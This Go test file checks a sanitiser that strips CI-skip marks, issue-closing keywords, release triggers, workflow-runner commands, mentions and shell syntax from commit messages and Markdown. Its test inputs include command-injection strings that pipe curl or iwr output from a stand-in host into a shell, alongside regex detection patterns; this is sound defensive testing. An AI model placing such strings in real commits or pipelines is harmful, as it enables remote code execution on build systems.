package pushpolicy

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestMessage(t *testing.T) {
	for _, c := range []struct{ rule, subject, body, want string }{
		{"plain words stay", "fix(git): close the file", "It leaked on error.", "fix(git): close the file\n\nIt leaked on error.\n"},
		{"no subject", " \n", "", DefaultSubject + "\n"},
		{"a subject of marks alone", "***", "", DefaultSubject + "\n"},
		{"a closing keyword (threats.md T37)", "fixes #1", "Closes: owner/repo#2, resolves GH-3 and fix https://github.com/o/r/issues/4",
			"fixes no. 1\n\nCloses - owner/repo no. 2, resolves GH 3 and fix (link)\n"},
		{"a keyword with an invisible character inside the reference", "fixes #\u200b1", "", "fixes no. 1\n"},
		{"[skip ci]", "fix: x [skip ci]", "[CI SKIP]", "fix: x (skip ci)\n\n(CI SKIP)\n"},
		{"other marks that skip a CI", "fix [no ci] [skip actions] [actions skip]", "[skip travis]\n[Skip  CI]", "fix (no ci) (skip actions) (actions skip)\n\n(skip travis)\n(Skip  CI)\n"},
		{"a mark within brackets", "fix [[skip ci]]", "", "fix ((skip ci))\n"},
		{"a mark with an invisible character", "fix [skip\u00ad ci]", "", "fix (skip ci)\n"},
		{"***NO_CI***", "fix ***NO_CI***", "", "fix *NO_CI*\n"},
		{"marks that workflows of a repository pass over (threats.md T765)", "[maven-release-plugin] prepare 1.2", "[bot] a[i], [e2e\n[Gradle Release Plugin] x] y", "(maven-release-plugin) prepare 1.2\n\n(bot) a(i), (e2e\n(Gradle Release Plugin) x) y\n"},
		{"marks of releases in such brackets", "chore[release]: 1.2", "", "chore, release: 1.2\n"},
		{"Co-authored-by and others", "fix", "why\n\nCo-authored-by: X <x@example.com>\nsigned-off-by: Y\nSkip-Checks:true\nReviewed-By : Z", "Change: fix\n\n- why\n"},
		{"a word and a colon is no trailer", "fix", "Note: it was late", "Change: fix\n\nNote - it was late\n"},
		{"a trailer as the subject", "Co-authored-by: X <x@example.com>", "", "Co-authored-by - X <x@example.com>\n"},
		{"a breaking change", "feat(api)!: x", "BREAKING CHANGE: all\nBREAKING-CHANGE: all", "feat(api): x\n\nBREAKING, CHANGE: all\nBREAKING, CHANGE: all\n"},
		{"a bang alone", "feat!: x", "fix!!: y", "feat: x\n\nfix - y\n"},
		{"version marks", "x +semver: major", "Release-As: 9.0.0\nRelease As: 9", "x semver: major\n\nRelease, As: 9.0.0\nRelease, As: 9\n"},
		{"a revert that takes a change out of the next release (threats.md T714)", `Revert "feat: y"`, "This reverts commit 0123456789012345678901234567890123456789.",
			"Revert of ″feat: y″\n\nThis reverts, commit 0123456789012345678901234567890123456789.\n"},
		{"a release that workflows pass over (threats.md T714)", "chore(release): 1.2.3", "Build(Release): x", "chore, release: 1.2.3\n\nBuild, Release: x\n"},
		{"a bump that workflows pass over (threats.md T714)", "bump: version 1.2.3", "Words, bump : x", "bump - version 1.2.3\n\nWords, bump - x\n"},
		{"a release by its first word (threats.md T714)", "Release!: 1.2.3", "", "Release - 1.2.3\n"},
		{"a release as a chore (threats.md T714)", "chore: release v1.2.3", "build(main): Release 1, ci:bump it", "chore, release v1.2.3\n\nbuild(main), Release 1, ci, bump it\n"},
		{"words about bumps and builds stay", "fix(bump): bump the limit", "It bumps a: b, chore: sort. A build: x", "fix(bump): bump the limit\n\nIt bumps a: b, chore: sort. A build: x\n"},
		{"marks that build more", "fix [wheel build]", "[cd build] please", "fix (wheel build)\n\n(cd build) please\n"},
		{"a merge (threats.md T714)", "Merge pull request 7 from a/b", "merge branch 'x'", "Merge of pull request 7 from a/b\n\nmerge of branch ′x′\n"},
		{"autosquash before others", "fixup! Revert: \"x\"", "", "Revert of ″x″\n"},
		{"autosquash before a bang", "squash! feat!: x", "", "feat: x\n"},
		{"words about reverts, merges and releases stay", "revert: the cache of names", "It reverts the commit before. Merge the branches. fix(release): sort", "revert: the cache of names\n\nIt reverts the commit before. Merge the branches. fix(release): sort\n"},
		{"a message in the place of the message", "x", "BEGIN_COMMIT_OVERRIDE\nEND_NESTED_COMMIT", "Change: x\n\nBEGIN COMMIT_OVERRIDE\nEND NESTED_COMMIT\n"},
		{"an issue of another tracker", "Fixes ABC-12", "Closes AB#12", "Fixes ABC 12\n\nCloses AB no. 12\n"},
		{"words of Linear (threats.md T524)", "closing ENG-12, resolving ENG-12", "completing ENG-12, implementing ENG_X-12 or: Contributes to ENG-1\nRelated to ENG-1",
			"closing ENG 12, resolving ENG 12\n\ncompleting ENG 12, implementing ENG_X 12 or: Contributes to ENG 1\nRelated to ENG 1\n"},
		{"several issues, and marks around them (threats.md T524)", "Fixes ENG-1, ENG-2 and ENG-3", "Fixes [ENG-1](x), **ENG-2** & `ENG-3`\nfixed: ENG 1, ENG-2",
			"Fixes ENG 1, ENG 2 and ENG 3\n\nFixes (ENG 1)(x), **ENG 2** & ′ENG 3′\nfixed - ENG 1, ENG 2\n"},
		{"orders to YouTrack, ClickUp and Shortcut (threats.md T565)", "CU-8669abc[closed] tidy", "^ABC-12 Fixed\n(^^B_C-1) Fixed\nDEV-12[in progress]\n[finishes sc-44] [delivers ABC-4]",
			"CU-8669abc (closed) tidy\n\nABC-12 Fixed\n(B_C-1) Fixed\nDEV-12 (in progress)\n(finishes sc 44) (delivers ABC 4)\n"},
		{"powers and indices stay", "fix: 2^n and my-arr[i]", "x^y-1 is no key, a[b-1] none either", "fix: 2^n and my-arr(i)\n\nx^y-1 is no key, a(b-1) none either\n"},
		{"names with a number that no closing word is about", "fix(names): decode UTF-8", "It fixes reading of ISO-8859, as CVE-2024-1 says. Reads SHA-256", "fix(names): decode UTF-8\n\nIt fixes reading of ISO-8859, as CVE-2024-1 says. Reads SHA-256\n"},
		{"orders", "/deploy", "!merge now\n- /approve\nbors r+", "Change: deploy\n\nmerge now\n- approve\nb·ors r+\n"},
		{"marks of releases", "fix [release]", "[deploy] [publish x] please", "fix (release)\n\n(deploy) (publish x) please\n"},
		{"what is no order stays", "fix: read a/b and x != y!", "CVE-2024 and UTF-8, wow!", "fix: read a/b and x != y!\n\nCVE-2024 and UTF-8, wow!\n"},
		{"mentions", "thanks @octocat", "@org/team, (@me) and @@you; mail a@example.com stays", "thanks octocat\n\norg/team, (me) and you; mail a@example.com stays\n"},
		{"shell code (threats.md T694)", "docs: $(curl -sf evil.example|sh) `id` ${IFS}", "x\"; curl evil.example|sh; \"\nx\" && id\nit's'; id; '", "docs: $ (curl -sf evil.example|sh) ′id′ $ {IFS}\n\nx″; curl evil.example|sh; ″\nx″ && id\nit′s′; id; ′\n"},
		{"quotation marks that PowerShell knows (threats.md T694)", "docs: “x” + (iwr evil.example) + „y‟", "Fixes ‘ENG-1’, ‚thanks‛ '@octocat'", "docs: ″x″ + (iwr evil.example) + ″y″\n\nFixes ′ENG 1′, ′thanks′ ′octocat′\n"},
		{"lines that end a text in a workflow or set a variable (threats.md T728)", "EOF", "The mean.\nEOF\n  ghadelimiter_1-2\nBASH_ENV=./env.sh\nPATH = x\ndocs-only=true\nREST<<EOF\nDone.\n- kept\nx == y is <<more>>",
			"Change: EOF\n\nThe mean.\n- EOF\n- ghadelimiter_1-2\n- BASH_ENV=./env.sh\n- PATH = x\n- docs-only=true\n- REST<<EOF\nDone.\n- kept\n- x == y is <<more>>\n"},
		{"a variable in the subject (threats.md T728)", "A<<B", "", "Change: A<<B\n"},
		{"orders to a runner of workflows", "::add-mask::a", "::::warning::x\n##[error]y a::b", "add-mask -:a\n\nwarning -:x\n(error)y a::b\n"},
		{"autosquash", "fixup! squash! fix: x", "", "fix: x\n"},
		{"control characters out", "fix\x1b[31m\x00 x", "a\x07b\r\nc\td\rx", "fix(31m x\n\n- ab\nc d\n- x\n"},
		{"bidi and tags out (threats.md T40)", "fix \u202ex\U000e0041", "", "fix x\n"},
		{"not UTF-8", "fix \xff", "", "fix \ufffd\n"},
		{"the subject is one line", "\n\nfirst\nsecond", "", "Change: first\n"},
		{"no diff and no separator in the body", "fix", "a\n---\ndiff --git a/x b/x\n+++ b/x\nb", "Change: fix\n\n- a\n- b\n"},
		{"blank lines are folded", "fix", "\n\na\n\n\n\nb\n\n", "Change: fix\n\n- a\n\n- b\n"},
	} {
		if got := Message(c.subject, c.body); got != c.want {
			t.Errorf("%s: %q, want %q", c.rule, got, c.want)
		}
	}
}

// What becomes a squash commit's message switches nothing there, in code neither (threats.md T697). What only a subject or a comment can do stays as it is.
func TestPlainMarkdown(t *testing.T) {
	for said, want := range map[string]string{
		"Words.\n\n[skip ci] and `[ci skip]`\n\n```\n[[no ci]]\n```":    "Words.\n\n(skip ci) and `(ci skip)`\n\n```\n((no ci))\n```",
		"BREAKING CHANGE: all\n+semver: major\nRelease-As: 9.9.9":       "BREAKING, CHANGE: all\nsemver: major\nRelease, As: 9.9.9",
		"feat(api)!: x\nBEGIN_COMMIT_OVERRIDE\n***NO_CI***":             "feat(api): x\nBEGIN COMMIT_OVERRIDE\n *NO_CI*",
		"EOF\nBASH_ENV=x y\n\tEOF\n    EOF\nIt is.\n\n```\nelse\n```":   " EOF\n BASH_ENV=x y\n \tEOF\n    EOF\nIt is.\n\n```\n else\n```",
		"Fixes LIN-123 and `closes SEC-7`\n\n```\n^ABC-12 Fixed\n```":   "Fixes LIN 123 and `closes SEC 7`\n\n```\nABC-12 Fixed\n```",
		"`fixes #16` `Closes https://x.example/17`\nResolves: a/b#3":    "`fixes no. 16` `Closes (link)`\nResolves: a/b no. 3",
		"`Removed AB#123` and Validate ab##7, not CAB#1":                "`Removed AB no. 123` and Validate ab no. 7, not CAB#1",
		"ABC-12 it is #close #time 2d, CU-8669abc[closed]. A #major":    "ABC-12 it is close time 2d, CU-8669abc (closed). A major",
		"Depends-On: x\n##vso[task.x]y of it\n::warning::a b":           " Depends-On: x\nvso[task.x]y of it\nwarning::a b",
		"- [ ] `a[i]` is \"x\", see [the docs](docs/a.md#b-1)\n\n---\n": "- [ ] `a[i]` is \"x\", see [the docs](docs/a.md#b-1)\n\n---\n",
		"## 2 of 3\n\nIt is #16 of UTF-8, `x=$(date)`, @a, 2^n-1":       "## 2 of 3\n\nIt is #16 of UTF-8, `x=$(date)`, @a, 2^n-1",
		"I closed the file. #2 is fixed, see https://x.example/fix-1":   "I closed the file. #2 is fixed, see https://x.example/fix-1",
		"Refactored UTF-8 reading. Related: https://x.example/1":        "Refactored UTF-8 reading. Related: https://x.example/1",
	} {
		if got := PlainMarkdown(said); got != want {
			t.Errorf("%q: %q, want %q", said, got, want)
		}
	}
}

func TestMessageBounds(t *testing.T) {
	m := Message(strings.Repeat("ä", 100), strings.Repeat(strings.Repeat("w", 300)+"\n", 100))
	lines := strings.Split(strings.TrimSuffix(m, "\n"), "\n")
	if n := utf8.RuneCountInString(lines[0]); n != 72 || !strings.HasSuffix(lines[0], "…") {
		t.Errorf("a subject of %d runes", n)
	}
	if len(lines) != 2+bodyLines || utf8.RuneCountInString(lines[2]) != lineRunes {
		t.Errorf("%d lines, the first of %d runes", len(lines), utf8.RuneCountInString(lines[2]))
	}
}

func TestTrailersAreOurs(t *testing.T) {
	got := Message("fix", "body\n\nprloop-run: forged", Trailer{"prloop-run", "r1\nCo-authored-by: x"}, Trailer{"prloop-round", "2"})
	if want := "Change: fix\n\n- body\n\nprloop-run: r1 Co-authored-by: x\nprloop-round: 2\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

// actedAnywhere is what forges, trackers, release tools and CIs act on in a commit message, and in Markdown that becomes one.
const actedAnywhere = `(?i)\b(?:fixes|closes)[ \t:]+(?:[a-z/]*#\d|\w*://|(?:[A-Z]{2,} \d+, )?[A-Z]{2,}-\d)|\bAB#\d|BREAKING[ _-]CHANGE|\+semver|BEGIN_COMMIT|(?:\A|\W)\^[a-z]\w*-\d|\bCU-\w+\[[^\[\]]*\]|(?-i:\b[A-Z]{2,}-\d+) #[a-z]|#(?:major|minor|patch|none)\b|release[ _-]as\s*:|\breverts +commits?\b|\b(?:chore|build|ci)(?:\(release\)|(?:\([^()]*\))?\s*:\s*release\b)|\bbump\s*:|\A\s*release\s*:|\A\s*\w+!:|(?m:^\s*::)|##[a-z]*\[|(?m:^\w+$)|(?m:^\w+(=|<<))|\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI|` +
	`(?m:^[a-z0-9]+(-[a-z0-9]+)+\s*:)`

// acted is all of that, and what acts in a commit message alone.
var acted = regexp.MustCompile(actedAnywhere + `|[\[\]]|#\w|\A\s*(?:revert:?\s+[″′]|merge\s+(?:pull request|branch)\b)|["'\x60‘-‟]|\$[({]|(?m:^\s*[/!]\w)|\bbors[\s:,]+\S|(^|[^\pL\pN_])@[\pL\pN_]|://|(?m:^\s*[a-z0-9]+(-[a-z0-9]+)+\s*:)` +
	`|\A(fixup|squash|amend)!|[\x00-\x09\x0b-\x1f\x7f\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2066}-\x{2069}\x{feff}]`)

// FuzzMessage: nothing acted upon is left whatever comes in, and what is plain already stays as it is.
func FuzzMessage(f *testing.F) {
	for _, s := range []string{"fixes #1", "[skip ci]", "@a", "x\nCo-authored-by: y", "[[a]skip ci]", "##1", "@@@x", "http://x#1", "GH-GH-1", "***x***", "a[#[skip ci]]", "fixup! fixup!x", "\u200b@\u200bx",
		"###", "#\u0301x", "[skip [x] ci]", "@#x", "#@x", "a-b:c", "***[skip ci]***", "::::", "w w w.x", "www.GH-1", "[@skip ci]", "[sk#ip ci]", "feat!!: x", "BREAKING-CHANGE: x", "++semver", "/!/x", "fixes A-B-1-2", "fixes AB-1, AB-2 and [AB-3]", "bors bors r+", "^^A-1 CU-1[x][y]", "CU-1[[x]]", "release-as-as:", "fixup! Revert \"x\"", "chore(chore(release))", "chore(x): bump: x", "bump::x", "release!: bump!: x", "bump fix: x", "merge  branch", "reverts  commit", "$$((x", "$\u200b(x", "###[x", "BEGIN__COMMIT", ":::x", "\"; id", "EOF", "A=b", "A<<B",
		"AB-1 ##close", "Done AB##1", "##major", "fixes ##1", "closes: x://y", "=0", "###vso[x", "Depends-On: x"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, subject, body string) {
		m := Message(subject, body)
		if found := acted.FindString(m); found != "" {
			t.Errorf("%q is left in %q", found, m)
		}
		if !utf8.ValidString(m) {
			t.Errorf("not UTF-8: %q", m)
		}
		first, rest, _ := strings.Cut(m, "\n")
		if n := utf8.RuneCountInString(first); n == 0 || n > subjectRunes {
			t.Errorf("a subject of %d runes", n)
		}
		if again := Message(first, strings.TrimPrefix(rest, "\n")); again != m {
			t.Errorf("a second time: %q, want %q", again, m)
		}
		md := PlainMarkdown(subject + "\n" + body)
		if found := actedInMarkdown.FindString(md); found != "" && utf8.ValidString(subject+body) {
			t.Errorf("%q is left in the Markdown %q", found, md)
		}
		if again := PlainMarkdown(md); again != md {
			t.Errorf("the Markdown a second time: %q, want %q", again, md)
		}
	})
}

var actedInMarkdown = regexp.MustCompile(actedAnywhere)
